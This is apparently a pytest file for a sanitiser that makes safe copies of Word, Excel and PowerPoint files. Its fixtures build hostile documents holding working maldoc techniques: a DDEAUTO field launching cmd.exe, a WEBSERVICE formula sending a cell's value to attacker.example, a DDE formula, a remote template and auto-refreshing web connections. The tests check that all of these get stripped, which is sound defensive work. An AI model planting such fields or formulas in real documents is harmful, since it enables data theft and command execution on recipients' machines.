"""Hostile Word, Excel and PowerPoint files against make_safe_copy (red-team findings F1, F2).

Each file carries what the attacker's report found still inside safe copies: field codes
(DDEAUTO, INCLUDEPICTURE, INCLUDETEXT, HYPERLINK), imported HTML, hidden text, document
variables, thumbnails, OLE objects, web connections, formulas that fetch or run things,
Auto_Open names, hidden sheets, rows and slides. The copies must keep none of it active,
show what was hidden, keep what the fields and formulas displayed, point at no missing
relationship, and say what was removed.
"""

from __future__ import annotations

import functools
import io
import posixpath
import re
import zipfile

import defusedxml.ElementTree as SafeET

from portal.evidence import Converted, make_safe_copy

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG = "http://schemas.openxmlformats.org/package/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
NS = (f'{W} xmlns:r="{REL}" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
      'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"')
X = f'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{REL}"'
P = (f'xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main" xmlns:r="{REL}" '
     'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"')
SCHEMA_HOSTS = ("http://schemas.openxmlformats.org/", "http://schemas.microsoft.com/", "http://purl.org/",
                "http://www.w3.org/")


def _types(overrides: dict[str, str], defaults: tuple[str, ...] = ()) -> str:
    return ('<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            + "".join(f'<Default Extension="{e}" ContentType="application/octet-stream"/>' for e in defaults)
            + "".join(f'<Override PartName="/{n}" ContentType="{t}"/>' for n, t in overrides.items()) + "</Types>")


def _rels(*rels: tuple[str, str, str] | tuple[str, str, str, str]) -> str:
    body = "".join(f'<Relationship Id="{r[0]}" Type="{r[1] if "/" in r[1] else REL + "/" + r[1]}" Target="{r[2]}"'
                   + (' TargetMode="External"' if len(r) > 3 else "") + "/>" for r in rels)
    return f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG}">{body}</Relationships>'


def _zip(parts: dict[str, str | bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, body in parts.items():
            archive.writestr(name, body)
    return out.getvalue()


def _field(instruction: str, result: str) -> str:
    return ('<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
            f'<w:r><w:instrText xml:space="preserve">{instruction}</w:instrText></w:r>'
            f'<w:r><w:fldChar w:fldCharType="separate"/></w:r>{result}<w:r><w:fldChar w:fldCharType="end"/></w:r>')


def _text(words: str, properties: str = "") -> str:
    return f"<w:r>{properties}<w:t>{words}</w:t></w:r>"


PICTURE = ('<w:r><w:drawing><a:graphic><a:graphicData><a:blip r:link="rId4"/></a:graphicData></a:graphic></w:drawing>'
           "</w:r>")
NESTED = ('<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>IF </w:instrText></w:r>'
          + _field("MERGEFIELD Name", _text("INNER")) + '<w:r><w:instrText> = "x" "yes" "no"</w:instrText></w:r>'
          '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' + _text("NESTED RESULT")
          + '<w:r><w:fldChar w:fldCharType="end"/></w:r>')
DOCUMENT = (
    f'<?xml version="1.0" encoding="UTF-8"?><w:document {NS}><w:body>'
    "<w:p>" + _field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"', _text("FIRST RESULT")) + "</w:p>"
    "<w:p>" + _field('INCLUDEPICTURE "http://attacker.example/beacon.png" \\d', _text("PICTURE RESULT") + PICTURE) + "</w:p>"
    "<w:p>" + _field('HYPERLINK "http://attacker.example/page"', _text("LINK RESULT")) + "</w:p>"
    "<w:p><w:fldSimple w:instr='INCLUDETEXT \"file:///etc/passwd\"'>" + _text("INCLUDED RESULT") + "</w:fldSimple></w:p>"
    "<w:p>" + NESTED + "</w:p>"
    '<w:altChunk r:id="rId2"/>'
    "<w:p>" + _text("CONCEALED WORDS", "<w:rPr><w:vanish/></w:rPr>") + _text("WEB CONCEALED", "<w:rPr><w:webHidden/></w:rPr>")
    + "</w:p>"
    '<w:p><w:r><w:object><v:shape id="o1"><v:imagedata r:id="rId6"/></v:shape>'
    '<o:OLEObject Type="Embed" ProgID="Package" ShapeID="o1" r:id="rId5"/></w:object></w:r>' + _text("AFTER OBJECT")
    + '</w:p><w:sectPr><w:headerReference w:type="default" r:id="rId1"/></w:sectPr></w:body></w:document>')
HEADER = (f'<?xml version="1.0" encoding="UTF-8"?><w:hdr {NS}><w:p>'
          + _field('INCLUDEPICTURE "http://attacker.example/header.png"', _text("HEADER RESULT")) + "</w:p></w:hdr>")
SETTINGS = (f'<?xml version="1.0" encoding="UTF-8"?><w:settings {NS}><w:attachedTemplate r:id="rId1"/>'
            '<w:updateFields w:val="true"/><w:mailMerge><w:mainDocumentType w:val="formLetters"/>'
            '<w:connectString w:val="Data Source=C:\\Users\\alice\\contacts.mdb"/><w:dataSource r:id="rId2"/></w:mailMerge>'
            '<w:docVars><w:docVar w:name="leak" w:val="SECRET VARIABLE"/></w:docVars></w:settings>')
WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def hostile_docx() -> bytes:
    return _zip({
        "[Content_Types].xml": _types({"word/document.xml": WORD_MAIN, "word/header1.xml": "application/xml",
                                       "word/settings.xml": "application/xml"}, ("jpeg", "html", "bin", "png")),
        "_rels/.rels": _rels(("rId1", "officeDocument", "word/document.xml"),
                             ("rId2", f"{PKG}/metadata/thumbnail", "docProps/thumbnail.jpeg")),
        "docProps/thumbnail.jpeg": b"\xff\xd8\xff THUMBNAIL OF FIRST PAGE",
        "word/_rels/document.xml.rels": _rels(
            ("rId1", "header", "header1.xml"), ("rId2", "aFChunk", "chunk.html"), ("rId3", "settings", "settings.xml"),
            ("rId4", "image", "http://attacker.example/blip.png", "External"), ("rId5", "oleObject", "embeddings/ole1.bin"),
            ("rId6", "image", "media/image1.png")),
        "word/document.xml": DOCUMENT, "word/header1.xml": HEADER, "word/settings.xml": SETTINGS,
        "word/_rels/settings.xml.rels": _rels(("rId1", "attachedTemplate", "http://attacker.example/t.dotm", "External"),
                                              ("rId2", "mailMergeSource", "file:///C:/Users/alice/contacts.mdb", "External")),
        "word/chunk.html": '<html><body><img src="http://attacker.example/chunk.png">CHUNK</body></html>',
        "word/embeddings/ole1.bin": b"OLE PACKAGE", "word/media/image1.png": b"\x89PNG preview",
    })


def benign_docx() -> bytes:
    document = f'<?xml version="1.0" encoding="UTF-8"?><w:document {NS}><w:body><w:p>{_text("Plain words.")}</w:p></w:body></w:document>'
    return _zip({"[Content_Types].xml": _types({"word/document.xml": WORD_MAIN}),
                 "_rels/.rels": _rels(("rId1", "officeDocument", "word/document.xml")), "word/document.xml": document})


def _cell(ref: str, formula: str, value: str, kind: str = "") -> str:
    return f'<c r="{ref}"{kind}><f>{formula}</f><v>{value}</v></c>'


SHEET1 = (f'<?xml version="1.0" encoding="UTF-8"?><worksheet {X}><cols><col min="2" max="2" hidden="1"/></cols><sheetData>'
          '<row r="1">' + _cell("A1", 'WEBSERVICE("http://attacker.example/?leak="&amp;B1)', "CACHED WEB", ' t="str"')
          + '<c r="B1" t="inlineStr"><is><t>SECRET</t></is></c></row>'
          '<row r="2">' + _cell("A2", "cmd|' /C calc'!A0", "42") + "</row>"
          '<row r="3">' + _cell("A3", 'HYPERLINK("http://attacker.example/h","click")', "click here", ' t="str"') + "</row>"
          '<row r="4">' + _cell("A4", "[1]Sheet1!A1", "77") + "</row>"
          '<row r="5" hidden="1"><c r="A5"><v>55</v></c></row></sheetData>'
          '<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1"><formula>'
          'ISERROR(WEBSERVICE("http://attacker.example/cf"))</formula></cfRule></conditionalFormatting>'
          '<hyperlinks><hyperlink ref="A3" r:id="rId1"/></hyperlinks></worksheet>')
WORKBOOK = (f'<?xml version="1.0" encoding="UTF-8"?><workbook {X}><sheets>'
            '<sheet name="My Sheet" sheetId="1" r:id="rId1"/><sheet name="Hidden" sheetId="2" state="hidden" r:id="rId2"/>'
            '<sheet name="Secret" sheetId="3" state="veryHidden" r:id="rId3"/></sheets>'
            '<externalReferences><externalReference r:id="rId5"/></externalReferences><definedNames>'
            '<definedName name="_xlnm.Auto_Open">[1]Sheet1!A1</definedName><definedName name="Auto_Close">Sheet1!A1</definedName>'
            '<definedName name="Beacon">WEBSERVICE("http://attacker.example/n")</definedName>'
            "<definedName name=\"_xlnm.Print_Area\" localSheetId=\"0\">'My Sheet'!$A$1:$B$5</definedName></definedNames>"
            '<pivotCaches><pivotCache cacheId="1" r:id="rId7"/></pivotCaches></workbook>')
XL = "application/vnd.openxmlformats-officedocument.spreadsheetml"


def _sheet(words: str) -> str:
    return f'<?xml version="1.0" encoding="UTF-8"?><worksheet {X}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>{words}</t></is></c></row></sheetData></worksheet>'


def hostile_xlsx() -> bytes:
    return _zip({
        "[Content_Types].xml": _types({"xl/workbook.xml": f"{XL}.sheet.main+xml", "xl/connections.xml": f"{XL}.connections+xml",
                                       "xl/externalLinks/externalLink1.xml": f"{XL}.externalLink+xml",
                                       "xl/calcChain.xml": f"{XL}.calcChain+xml"}),
        "_rels/.rels": _rels(("rId1", "officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": WORKBOOK,
        "xl/_rels/workbook.xml.rels": _rels(
            ("rId1", "worksheet", "worksheets/sheet1.xml"), ("rId2", "worksheet", "worksheets/sheet2.xml"),
            ("rId3", "worksheet", "worksheets/sheet3.xml"), ("rId4", "connections", "connections.xml"),
            ("rId5", "externalLink", "externalLinks/externalLink1.xml"), ("rId6", "calcChain", "calcChain.xml"),
            ("rId7", "pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml")),
        "xl/worksheets/sheet1.xml": SHEET1, "xl/worksheets/sheet2.xml": _sheet("SHEET TWO DATA"),
        "xl/worksheets/sheet3.xml": _sheet("VERY SECRET DATA"),
        "xl/worksheets/_rels/sheet1.xml.rels": _rels(("rId1", "hyperlink", "http://attacker.example/link", "External"),
                                                     ("rId2", "pivotTable", "../pivotTables/pivotTable1.xml")),
        "xl/connections.xml": (f'<?xml version="1.0" encoding="UTF-8"?><connections {X}><connection id="1" name="web" '
                               'type="4" refreshOnLoad="1"><webPr url="http://attacker.example/q"/></connection></connections>'),
        "xl/externalLinks/externalLink1.xml": (f'<?xml version="1.0" encoding="UTF-8"?><externalLink {X}>'
                                               '<externalBook r:id="rId1"/></externalLink>'),
        "xl/externalLinks/_rels/externalLink1.xml.rels": _rels(
            ("rId1", "externalLinkPath", "file:///C:/Users/alice/secret.xlsx", "External")),
        "xl/calcChain.xml": f'<?xml version="1.0" encoding="UTF-8"?><calcChain {X}><c r="A1" i="1"/></calcChain>',
        "xl/pivotCache/pivotCacheDefinition1.xml": (f'<?xml version="1.0" encoding="UTF-8"?><pivotCacheDefinition {X} '
                                                    'r:id="rId1"><cacheSource type="external" connectionId="1"/>'
                                                    "</pivotCacheDefinition>"),
        "xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels": _rels(("rId1", "pivotCacheRecords", "pivotCacheRecords1.xml")),
        "xl/pivotCache/pivotCacheRecords1.xml": f'<?xml version="1.0" encoding="UTF-8"?><pivotCacheRecords {X}/>',
        "xl/pivotTables/pivotTable1.xml": f'<?xml version="1.0" encoding="UTF-8"?><pivotTableDefinition {X} cacheId="1"/>',
        "xl/pivotTables/_rels/pivotTable1.xml.rels": _rels(
            ("rId1", "pivotCacheDefinition", "../pivotCache/pivotCacheDefinition1.xml")),
    })


def benign_xlsx() -> bytes:
    return _zip({"[Content_Types].xml": _types({"xl/workbook.xml": f"{XL}.sheet.main+xml"}),
                 "_rels/.rels": _rels(("rId1", "officeDocument", "xl/workbook.xml")),
                 "xl/workbook.xml": f'<?xml version="1.0"?><workbook {X}><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>',
                 "xl/_rels/workbook.xml.rels": _rels(("rId1", "worksheet", "worksheets/sheet1.xml")),
                 "xl/worksheets/sheet1.xml": _sheet("Plain cell")})


def hostile_pptx() -> bytes:
    slide = (f'<?xml version="1.0" encoding="UTF-8"?><p:sld {P} show="0"><p:cSld><p:spTree><p:sp><p:txBody><a:p><a:r>'
             '<a:rPr><a:hlinkClick r:id="rId1"/></a:rPr><a:t>SLIDE WORDS</a:t></a:r></a:p></p:txBody></p:sp>'
             '<p:pic><p:blipFill><a:blip r:link="rId2"/></p:blipFill></p:pic></p:spTree></p:cSld></p:sld>')
    return _zip({
        "[Content_Types].xml": _types({"ppt/presentation.xml": "application/vnd.openxmlformats-officedocument."
                                       "presentationml.presentation.main+xml"}, ("jpeg",)),
        "_rels/.rels": _rels(("rId1", "officeDocument", "ppt/presentation.xml"),
                             ("rId2", f"{PKG}/metadata/thumbnail", "docProps/thumbnail.jpeg")),
        "docProps/thumbnail.jpeg": b"\xff\xd8\xff THUMBNAIL",
        "ppt/presentation.xml": f'<?xml version="1.0"?><p:presentation {P}><p:sldIdLst><p:sldId id="256" r:id="rId1"/></p:sldIdLst></p:presentation>',
        "ppt/_rels/presentation.xml.rels": _rels(("rId1", "slide", "slides/slide1.xml")),
        "ppt/slides/slide1.xml": slide,
        "ppt/slides/_rels/slide1.xml.rels": _rels(("rId1", "hyperlink", "http://attacker.example/s", "External"),
                                                  ("rId2", "image", "http://attacker.example/p.png", "External")),
    })


@functools.cache
def copy_of(name: str) -> Converted:
    result = make_safe_copy(globals()[name]())
    assert isinstance(result, Converted), result
    return result


def _parts(result: Converted) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(result.data)) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name) for name in archive.namelist()}


def _trees(parts: dict[str, bytes]) -> dict:
    return {n: SafeET.fromstring(b, forbid_dtd=True) for n, b in parts.items() if n.endswith((".xml", ".rels"))}


def _everything(name: str) -> bytes:
    return b"\n".join(_parts(copy_of(name)).values())


def test_word_fields_keep_only_what_they_displayed():
    everything = _everything("hostile_docx")
    for active in (b"instrText", b"fldSimple", b"fldChar", b"DDE", b"INCLUDEPICTURE", b"INCLUDETEXT", b"HYPERLINK",
                   b"MERGEFIELD", b"calc.exe", b"/etc/passwd", b"updateFields"):
        assert active not in everything, active
    for shown in (b"FIRST RESULT", b"PICTURE RESULT", b"LINK RESULT", b"INCLUDED RESULT", b"NESTED RESULT", b"HEADER RESULT"):
        assert shown in everything, shown
    assert "7 fields (links, includes or commands)" in copy_of("hostile_docx").removed


def test_word_imports_hidden_text_variables_thumbnail_and_objects():
    result = copy_of("hostile_docx")
    parts = _parts(result)
    everything = b"\n".join(parts.values())
    assert not any(n.startswith("docProps/thumbnail") or n.endswith((".html", ".bin")) for n in parts), sorted(parts)
    for gone in (b"altChunk", b"aFChunk", b"vanish", b"webHidden", b"docVars", b"SECRET VARIABLE", b"thumbnail",
                 b"attachedTemplate", b"mailMerge", b"alice", b"OLEObject", b"w:object", b"CHUNK"):
        assert gone not in everything, gone
    for shown in (b"CONCEALED WORDS", b"WEB CONCEALED", b"AFTER OBJECT"):
        assert shown in parts["word/document.xml"], shown
    for said in ("imported HTML or documents", "hidden text (now shown)", "document variables", "thumbnail preview",
                 "1 embedded object", "mail merge data source"):
        assert said in result.removed, (said, result.removed)


def test_excel_formulas_become_values_and_connections_go():
    result = copy_of("hostile_xlsx")
    parts = _parts(result)
    everything = b"\n".join(parts.values())
    assert not [n for n in parts if re.search(r"connections|externalLink|calcChain|pivot|queryTable", n)], sorted(parts)
    for tree_name, tree in _trees(parts).items():
        assert not [e for e in tree.iter() if e.tag.endswith("}f")], tree_name
    for gone in (b"WEBSERVICE", b"cmd|", b"HYPERLINK", b"[1]", b"externalReference", b"pivotCache", b"connection",
                 b"conditionalFormatting", b"<hyperlink", b"Auto_Open", b"Auto_Close", b"Beacon"):
        assert gone not in everything, gone
    sheet = parts["xl/worksheets/sheet1.xml"]
    for value in (b"CACHED WEB", b"<v>42</v>", b"click here", b"<v>77</v>", b"<v>55</v>"):
        assert value in sheet, value
    assert b"_xlnm.Print_Area" in parts["xl/workbook.xml"]
    for said in ("data connections", "links to other workbooks", "4 formulas (replaced by their last values)",
                 "links to websites (1)", "automatic macros or named formulas"):
        assert said in result.removed, (said, result.removed)


def test_excel_hidden_sheets_rows_and_columns_are_shown():
    result = copy_of("hostile_xlsx")
    parts = _parts(result)
    assert b"veryHidden" not in parts["xl/workbook.xml"] and b'state="hidden"' not in parts["xl/workbook.xml"]
    assert b'hidden="1"' not in parts["xl/worksheets/sheet1.xml"]
    assert b"VERY SECRET DATA" in parts["xl/worksheets/sheet3.xml"]
    assert "2 hidden sheets (now shown)" in result.removed and "hidden rows or columns (now shown)" in result.removed


def test_powerpoint_hidden_slides_are_shown_and_links_and_thumbnail_go():
    result = copy_of("hostile_pptx")
    parts = _parts(result)
    assert b'show="0"' not in parts["ppt/slides/slide1.xml"] and b"SLIDE WORDS" in parts["ppt/slides/slide1.xml"]
    assert b"hlinkClick" not in parts["ppt/slides/slide1.xml"] and b"r:link" not in parts["ppt/slides/slide1.xml"]
    assert "docProps/thumbnail.jpeg" not in parts
    for said in ("1 hidden slide (now shown)", "thumbnail preview", "2 external links"):
        assert said in result.removed, (said, result.removed)


def test_no_copy_holds_an_address_or_a_reference_to_a_missing_relationship():
    for name in ("hostile_docx", "hostile_xlsx", "hostile_pptx", "benign_docx", "benign_xlsx"):
        parts = _parts(copy_of(name))
        trees = _trees(parts)
        everything = b"\n".join(parts.values()).decode("utf-8", "replace")
        addresses = [a for a in re.findall(r"(?:https?|file|ftp)://[^\s\"'<>]*", everything, re.I)
                     if not a.startswith(SCHEMA_HOSTS)]
        assert not addresses and "attacker.example" not in everything, (name, addresses)
        for part, tree in trees.items():
            if part.endswith(".rels"):
                for rel in tree:
                    target = posixpath.normpath(posixpath.join(posixpath.dirname(posixpath.dirname(part)), rel.get("Target")))
                    assert rel.get("TargetMode") != "External" and target.lstrip("/") in parts, (name, part, target)
                continue
            rels = trees.get(posixpath.join(posixpath.dirname(part), "_rels", posixpath.basename(part) + ".rels"))
            ids = {rel.get("Id") for rel in rels} if rels is not None else set()
            for element in tree.iter():
                for key, value in element.attrib.items():
                    if key.startswith(("{" + REL + "}", "{urn:schemas-microsoft-com:office:office}relid")):
                        assert value in ids, (name, part, element.tag, key, value)
        for override in trees["[Content_Types].xml"]:
            assert override.get("PartName", "/[Content_Types].xml").lstrip("/") in parts or "Extension" in override.attrib


def test_ordinary_files_convert_with_nothing_removed():
    for name, main in (("benign_docx", b"Plain words."), ("benign_xlsx", b"Plain cell")):
        result = copy_of(name)
        assert result.removed == [], (name, result.removed)
        assert main in b"".join(_parts(result).values())


def _docx_with(document_body: str, extra: dict[str, str | bytes] | None = None) -> bytes:
    document = f'<?xml version="1.0" encoding="UTF-8"?><w:document {NS}><w:body>{document_body}</w:body></w:document>'
    return _zip({"[Content_Types].xml": _types({"word/document.xml": WORD_MAIN}),
                 "_rels/.rels": _rels(("rId1", "officeDocument", "word/document.xml")), "word/document.xml": document,
                 **(extra or {})})


def test_a_stray_field_begin_cannot_hide_the_text_after_it():
    body = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDETEXT "c:/x"</w:instrText></w:r>'
            + _text("STILL SHOWN") + "</w:p><w:p>" + _text("NEXT PARAGRAPH") + "</w:p>")
    result = make_safe_copy(_docx_with(body))
    assert isinstance(result, Converted), result
    document = _parts(result)["word/document.xml"]
    assert b"STILL SHOWN" in document and b"NEXT PARAGRAPH" in document
    assert b"instrText" not in document and b"fldChar" not in document and b"INCLUDETEXT" not in document


def test_hidden_text_in_a_style_is_shown_and_a_part_nothing_refers_to_is_dropped():
    styles = f'<?xml version="1.0"?><w:styles {NS}><w:style w:styleId="H"><w:rPr><w:vanish/></w:rPr></w:style></w:styles>'
    data = _docx_with('<w:p><w:r><w:rPr><w:rStyle w:val="H"/></w:rPr><w:t>STYLED</w:t></w:r></w:p>',
                      {"word/_rels/document.xml.rels": _rels(("rId1", "styles", "styles.xml")), "word/styles.xml": styles,
                       "word/stash.xml": "<secret>SMUGGLED DATA</secret>"})
    result = make_safe_copy(data)
    assert isinstance(result, Converted), result
    parts = _parts(result)
    assert b"vanish" not in parts["word/styles.xml"] and "word/stash.xml" not in parts
    assert result.removed == ["hidden text (now shown)", "1 unused part"]
    assert "unused part" not in " ".join(copy_of("hostile_xlsx").removed)  # parts only the removed ones used are not "unused"


def test_strict_open_xml_is_refused_rather_than_passed_through_uncleaned():
    document = ('<?xml version="1.0"?><w:document xmlns:w="http://purl.oclc.org/ooxml/wordprocessingml/main"><w:body>'
                + _field('DDEAUTO cmd "/k calc"', _text("R")) + "</w:body></w:document>")
    result = make_safe_copy(_docx_with("", {"word/document.xml": document}))
    assert not isinstance(result, Converted) and "Strict Open XML" in result.reason


def test_pictures_inside_a_document_lose_their_exif_location():
    """A photo pasted into a Word file keeps its EXIF (GPS) inside word/media: the copy rebuilds it."""
    import PIL.Image

    photo = io.BytesIO()
    exif = PIL.Image.Exif()
    exif[0x010F] = "CameraMakerCanary"  # Make
    exif[0x8825] = {1: "N", 2: (51.0, 30.0, 0.0)}  # GPSInfo
    PIL.Image.new("RGB", (32, 24), "red").save(photo, format="JPEG", exif=exif)
    source = _docx_with_media(photo.getvalue())
    result = make_safe_copy(source)
    assert isinstance(result, Converted), result
    with zipfile.ZipFile(io.BytesIO(result.data)) as copy:
        media = copy.read("word/media/image1.jpeg")
    assert media.startswith(b"\xff\xd8\xff")
    assert b"CameraMakerCanary" not in media and b"Exif" not in media
    assert "location, camera or other details from 1 picture" in result.removed


def _docx_with_media(jpeg: bytes) -> bytes:
    document = f'<?xml version="1.0" encoding="UTF-8"?><w:document {NS}><w:body>{_text("PHOTO BELOW")}</w:body></w:document>'
    return _zip({"[Content_Types].xml": _types({"word/document.xml": WORD_MAIN}, ("jpeg",)),
                 "_rels/.rels": _rels(("rId1", "officeDocument", "word/document.xml")), "word/document.xml": document,
                 "word/_rels/document.xml.rels": _rels(("rId5", "image", "media/image1.jpeg")),
                 "word/media/image1.jpeg": jpeg})
